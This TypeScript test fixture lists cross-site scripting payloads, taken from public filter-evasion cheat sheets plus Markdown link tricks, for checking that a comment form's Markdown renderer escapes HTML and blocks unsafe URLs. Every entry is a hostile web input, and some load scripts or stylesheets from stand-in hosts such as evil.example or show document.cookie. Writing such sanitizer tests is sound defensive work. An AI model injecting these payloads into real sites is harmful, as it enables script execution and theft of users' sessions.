/**
 * Cross-site scripting payloads for the comment form, taken from the well-known filter-evasion
 * lists (OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet) plus Markdown
 * link tricks aimed at a Markdown renderer.
 *
 * Comments are Markdown with raw HTML switched off in the parser (lib/comments/render-markdown.ts),
 * so HTML a reader types must come back as the very text they typed. Every payload is checked for
 * what matters (no dialog, no element or attribute outside the allow-list, no unsafe URL, nothing
 * injected elsewhere in the page); payloads without a `markdown` note are also checked to read
 * back literally (the comment's text equals the payload, whitespace normalised, NUL dropped as the
 * server does). A `markdown` note says which Markdown syntax in the payload changes its text, which
 * is why that payload cannot be compared literally:
 *  - character references (`&#106;`, `&lt;`) are decoded, as CommonMark requires;
 *  - backslash escapes (`\<`) lose their backslash;
 *  - `*…*`, `_…_` and backticks become emphasis and code (the delimiters vanish);
 *  - links, autolinks and link reference syntax show their text, not their brackets and URL.
 */
export type XssPayload = {
  /** Unique, for messages. */
  name: string;
  /** What the reader types. */
  payload: string;
  /** Set when Markdown syntax in the payload changes its text: why it is not compared literally. */
  markdown?: string;
};

const CHAR_REFS = "character references are decoded by the Markdown parser";

export const XSS_PAYLOADS: XssPayload[] = [
  // --- <script> in many spellings ---------------------------------------------------------
  { name: "script tag", payload: "<script>alert(1)</script>" },
  { name: "script tag, upper case", payload: "<SCRIPT>alert('XSS')</SCRIPT>" },
  { name: "script tag, mixed case", payload: "<ScRiPt>alert(document.domain)</sCrIpT>" },
  { name: "script with external src", payload: '<script src="https://evil.example/xss.js"></script>' },
  { name: "script with slash instead of space", payload: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: "script nested in itself (filter stripping)", payload: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "script never closed", payload: "<script>alert(1)//" },
  {
    name: "extraneous open brackets",
    payload: String.raw`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
    markdown: "the backslash escape `\\<` loses its backslash",
  },
  { name: "script split by a NUL byte", payload: "<scr\u0000ipt>alert(1)</scr\u0000ipt>" },
  { name: "attribute breakout into script", payload: '"><script>alert(1)</script>' },
  { name: "textarea breakout into script", payload: "</textarea><script>alert(1)</script>" },
  { name: "container breakout into script", payload: "</p></div></article></section><script>alert(1)</script>" },
  { name: "script in a CDATA section", payload: "<![CDATA[<script>alert(1)</script>]]>" },
  { name: "script after an HTML comment", payload: "<!-- --><script>alert(1)</script>" },
  { name: "UTF-7 encoded script", payload: "+ADw-script+AD4-alert(1)+ADw-/script+AD4-" },

  // --- event handlers -----------------------------------------------------------------------
  { name: "img onerror", payload: "<img src=x onerror=alert(1)>" },
  { name: "img onerror, quoted", payload: `<img src="x" onerror="alert('XSS')">` },
  { name: "img onmouseover, upper case", payload: `<IMG SRC=# onmouseover="alert('xxs')">` },
  { name: "img onerror never closed", payload: "<img src=x onerror=alert(1)//" },
  { name: "img with nested quotes (malformed)", payload: `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">` },
  { name: "img onerror inside an HTML comment trick", payload: `<!--<img src="--><img src=x onerror=alert(1)//">` },
  { name: "svg onload", payload: "<svg onload=alert(1)>" },
  { name: "svg onload with slash separator", payload: "<svg/onload=alert(1)>" },
  { name: "body onload", payload: "<body onload=alert(1)>" },
  { name: "details ontoggle", payload: "<details open ontoggle=alert(1)>" },
  { name: "input autofocus onfocus", payload: "<input autofocus onfocus=alert(1)>" },
  { name: "select autofocus onfocus", payload: "<select autofocus onfocus=alert(1)></select>" },
  { name: "textarea autofocus onfocus", payload: "<textarea autofocus onfocus=alert(1)>x</textarea>" },
  { name: "custom element tabindex onfocus", payload: "<xss id=x tabindex=1 onfocus=alert(1)></xss>" },
  { name: "marquee onstart", payload: "<marquee onstart=alert(1)>XSS</marquee>" },
  { name: "video source onerror", payload: `<video><source onerror="alert(1)"></video>` },
  { name: "audio onerror", payload: "<audio src=x onerror=alert(1)>" },
  { name: "a onmouseover", payload: `<a onmouseover="alert(document.cookie)">xxs link</a>` },
  { name: "style keyframes + onanimationstart", payload: `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>` },
  { name: "attribute-context breakout, double quote", payload: `" autofocus onfocus="alert(1)` },
  { name: "attribute-context breakout, single quote", payload: "' onmouseover='alert(1)" },

  // --- javascript:, vbscript:, data: URLs in HTML ------------------------------------------
  { name: "a href javascript:", payload: `<a href="javascript:alert(1)">click</a>` },
  { name: "a href vbscript:", payload: `<a href="vbscript:msgbox(1)">click</a>` },
  { name: "a href data: base64 html", payload: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>` },
  { name: "img src javascript: fromCharCode", payload: "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>" },
  {
    name: "img src javascript: as decimal character references",
    payload: "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    markdown: CHAR_REFS,
  },
  {
    name: "img src javascript: as hex references without semicolons",
    payload: "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  },
  { name: "img src javascript: split by a tab", payload: `<IMG SRC="jav\tascript:alert('XSS');">` },
  { name: "img src javascript: split by a newline", payload: `<IMG SRC="jav\nascript:alert('XSS');">` },
  { name: "img src javascript: split by an encoded newline", payload: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, markdown: CHAR_REFS },
  { name: "img src in backticks", payload: "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", markdown: "backticks make a code span" },
  { name: "form action javascript:", payload: `<form action="javascript:alert(1)"><button>X</button></form>` },
  { name: "button formaction javascript:", payload: "<form><button formaction=javascript:alert(1)>X</button></form>" },

  // --- SVG and MathML -----------------------------------------------------------------------
  { name: "svg script", payload: "<svg><script>alert(1)</script></svg>" },
  { name: "svg animate href to javascript:", payload: "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>" },
  {
    name: "svg use with data: document",
    payload: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x" /></svg>`,
  },
  { name: "MathML xlink:href javascript:", payload: `<math><mi xlink:href="javascript:alert(1)">click</mi></math>` },
  { name: "MathML mglyph style mutation", payload: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
  { name: "noscript title mutation", payload: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">` },

  // --- iframe, object, embed, frames, base, link, meta -----------------------------------------
  { name: "iframe src javascript:", payload: `<iframe src="javascript:alert(1)"></iframe>` },
  { name: "iframe srcdoc", payload: `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, markdown: CHAR_REFS },
  { name: "iframe half open", payload: "<iframe src=http://evil.example/scriptlet.html <" },
  { name: "object data javascript:", payload: `<object data="javascript:alert(1)"></object>` },
  { name: "embed data: svg", payload: `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">` },
  { name: "frameset frame javascript:", payload: `<frameset><frame src="javascript:alert(1)"></frameset>` },
  { name: "base href javascript:", payload: `<base href="javascript:alert(1)//">` },
  { name: "link stylesheet javascript:", payload: `<link rel="stylesheet" href="javascript:alert(1)">` },
  { name: "meta refresh to javascript:", payload: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">` },
  { name: "meta refresh to data:", payload: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">` },

  // --- style --------------------------------------------------------------------------------
  { name: "style expression()", payload: `<div style="width: expression(alert(1));">x</div>` },
  { name: "style url(javascript:)", payload: `<div style="background-image: url(javascript:alert(1))">x</div>` },
  { name: "style tag @import", payload: `<style>@import 'http://evil.example/xss.css';</style>` },
  { name: "style list-style-image javascript:", payload: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>` },

  // --- Markdown link tricks -----------------------------------------------------------------
  { name: "md link javascript:", payload: "[x](javascript:alert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: mixed case", payload: "[x](JaVaScRiPt:alert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: with entity", payload: "[x](&#106;avascript:alert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: colon as entity", payload: "[x](javascript&#58;alert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: named colon entity", payload: "[x](jAvAsCrIpT&colon;alert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: letter as entity", payload: "[x](javas&#99;ript:alert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: split by a tab", payload: "[x](<java\tscript:alert(1)>)", markdown: "a link shows only its text" },
  { name: "md link javascript: split by an encoded newline", payload: "[x](java&#10;script:alert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: percent-encoded colon", payload: "[x](javascript%3Aalert(1))", markdown: "a link shows only its text" },
  { name: "md link javascript: leading space", payload: "[x]( javascript:alert(1))", markdown: "a link shows only its text" },
  { name: "md link vbscript:", payload: "[x](vbscript:msgbox(1))", markdown: "a link shows only its text" },
  { name: "md link data: html", payload: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", markdown: "a link shows only its text" },
  { name: "md link protocol-relative", payload: "[x](//evil.example/xss)", markdown: "a link shows only its text" },
  // Link reference definitions are switched off, so these stay text, brackets and all.
  { name: "md reference link to javascript:", payload: "[x][evil]\n\n[evil]: javascript:alert(1)" },
  { name: "md reference link, collapsed", payload: "[evil][]\n\n[evil]: javascript:alert(1)" },
  { name: "md autolink javascript:", payload: "<javascript:alert(1)>", markdown: "an autolink drops its angle brackets" },
  { name: "md autolink vbscript:, upper case", payload: "<VBSCRIPT:msgbox(1)>", markdown: "an autolink drops its angle brackets" },
  { name: "md autolink data:", payload: "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", markdown: "an autolink drops its angle brackets" },
  { name: "md image with onerror in alt", payload: `![x" onerror="alert(1)](x)`, markdown: "image syntax is off, but its brackets are still a link" },
  { name: "md image with onerror in URL", payload: `![x](https://example.org/a.png"onerror="alert(1))`, markdown: "image syntax is off, but its brackets are still a link" },
  { name: "md link title with double quotes", payload: `[x](https://example.org "a\\" onmouseover=\\"alert(1)")`, markdown: "a link shows only its text" },
  { name: "md link title with single quotes", payload: `[x](https://example.org 'x" onmouseover="alert(1)')`, markdown: "a link shows only its text" },
  { name: "md HTML img inside link text", payload: "[<img src=x onerror=alert(1)>](https://example.org)", markdown: "a link shows only its text" },
  { name: "md HTML script inside link text", payload: "[<script>alert(1)</script>](https://example.org)", markdown: "a link shows only its text" },
  { name: "md link URL closing the attribute", payload: `[x](https://example.org/"><script>alert(1)</script>)`, markdown: "a link shows only its text" },
  { name: "md safe link then javascript: link", payload: "[a](https://example.org)[b](javascript:alert(1))", markdown: "a link shows only its text" },
  { name: "md bare URL with double quotes", payload: `https://example.org/"onmouseover="alert(1)"` },
  { name: "md bare www URL with single quotes", payload: "www.example.org/'onmouseover='alert(1)'" },
  { name: "md bare javascript: URL", payload: "javascript:alert(document.cookie)" },
  { name: "md bare email with script", payload: "reader@example.org<script>alert(1)</script>" },
  { name: "md emphasis around HTML", payload: "*<img src=x onerror=alert(1)>*", markdown: "emphasis delimiters vanish" },
  { name: "md code fence with a hostile info string", payload: '```js" onload="alert(1)\n<script>alert(1)</script>\n```', markdown: "the code fence's delimiters and info string vanish" },
  { name: "md HTML in a blockquote", payload: "> <iframe src=javascript:alert(1)>", markdown: "the quote marker vanishes" },
  { name: "md HTML in a list item", payload: "- <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>", markdown: "list markers vanish" },
  { name: "md ordered list with the largest start", payload: "999999999. <img src=x onerror=alert(1)>", markdown: "list markers vanish" },
];
